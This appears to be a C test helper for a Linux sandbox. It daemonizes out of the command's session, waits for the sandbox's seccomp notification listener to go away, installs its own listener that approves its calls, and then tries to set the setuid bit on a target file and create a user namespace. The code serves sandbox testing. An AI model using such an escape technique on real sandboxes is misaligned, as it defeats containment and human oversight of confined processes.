// A confined process that outlives its command tries to take over the
// calls the sandbox's seccomp programs notify: it waits until the
// sandbox's listener is gone (a notified call then answers ENOSYS instead
// of EPERM), installs a filter of its own with a listener, answers
// CONTINUE to its own notifications, and makes calls of the refusal set.
// It reports each step on a unix socket it connected to while the
// sandbox's server still served it (a connect afterwards would fail).
//
//   ownlistener daemon SOCKET TARGET   fork a daemon in its own session
//   ownlistener now - TARGET           the same, at once, on stdout
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static void say(const char *what, long r, int e)
{
	if (r < 0)
		fprintf(out, "%s: %s\n", what, strerrorname_np(e));
	else
		fprintf(out, "%s: ok\n", what);
	fflush(out);
}

static void attack(const char *target, int wait_gone)
{
	if (wait_gone) {
		// At most 60 s: the test closes the sandbox right after the
		// command ends.
		int e = EPERM;
		for (int i = 0; i < 1200 && e == EPERM; i++) {
			if (syscall(SYS_unshare, CLONE_NEWUSER) == 0) {
				fprintf(out, "unshare succeeded with no listener of ours\n");
				return;
			}
			e = errno;
			if (e == EPERM) {
				struct timespec ts = {0, 50 * 1000 * 1000};
				nanosleep(&ts, NULL);
			}
		}
		fprintf(out, "unshare(CLONE_NEWUSER) with the sandbox's listener gone: %s\n", strerrorname_np(e));
		fflush(out);
	}
	// A filter of our own without a listener: programs may sandbox
	// themselves.
	struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog allow_prog = {1, allow};
	say("own filter without a listener", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &allow_prog), errno);

	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 1, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_fchmodat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {sizeof f / sizeof f[0], f};
	long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	say("own filter with a listener", fd, errno);
	if (fd >= 0) {
		pid_t answerer = fork();
		if (answerer == 0) {
			for (;;) {
				struct seccomp_notif req;
				struct seccomp_notif_resp resp;
				memset(&req, 0, sizeof req);
				if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
					if (errno == EINTR || errno == ENOENT)
						continue;
					_exit(0);
				}
				memset(&resp, 0, sizeof resp);
				resp.id = req.id;
				resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
				ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
			}
		}
		close(fd);
		say("fchmodat 04755", syscall(SYS_fchmodat, AT_FDCWD, target, 04755), errno);
		say("unshare(CLONE_NEWUSER)", syscall(SYS_unshare, CLONE_NEWUSER), errno);
		kill(answerer, SIGKILL);
		waitpid(answerer, NULL, 0);
	}
	struct stat st;
	if (stat(target, &st) == 0)
		fprintf(out, "mode %o\n", st.st_mode & 07777);
	fprintf(out, "done\n");
	fflush(out);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	if (strcmp(argv[1], "now") == 0) {
		out = stdout;
		attack(argv[3], 0);
		return 0;
	}
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, argv[2], sizeof a.sun_path - 1);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("connect");
		return 1;
	}
	// The command ends when this process does, and its session is then
	// killed: it waits until the daemon is in a session of its own.
	int sync[2];
	if (pipe(sync) < 0)
		return 1;
	pid_t pid = fork();
	if (pid < 0)
		return 1;
	if (pid > 0) {
		char c;
		close(sync[1]);
		while (read(sync[0], &c, 1) < 0 && errno == EINTR)
			;
		printf("daemon %d\n", pid);
		return 0;
	}
	setsid();
	close(sync[0]);
	close(sync[1]);
	int devnull = open("/dev/null", O_RDWR);
	dup2(devnull, 0);
	dup2(devnull, 1);
	dup2(devnull, 2);
	out = fdopen(s, "w");
	if (!out)
		_exit(1);
	attack(argv[3], 1);
	_exit(0);
}
